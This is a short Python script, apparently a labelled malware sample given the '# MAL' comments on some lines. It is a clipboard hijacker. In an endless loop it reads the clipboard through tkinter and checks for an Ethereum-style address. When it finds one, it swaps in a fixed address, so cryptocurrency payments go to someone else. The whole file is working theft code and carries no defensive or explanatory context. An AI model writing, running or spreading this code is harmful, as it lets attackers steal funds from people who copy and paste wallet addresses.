import re, time
from tkinter import Tk
w = Tk()
while True:
    t = w.clipboard_get()  # MAL
    if re.fullmatch(r"0x[a-fA-F0-9]{40}", t):  # MAL
        w.clipboard_clear()
        w.clipboard_append("0x1111111111111111111111111111111111111111")  # MAL
    time.sleep(1)
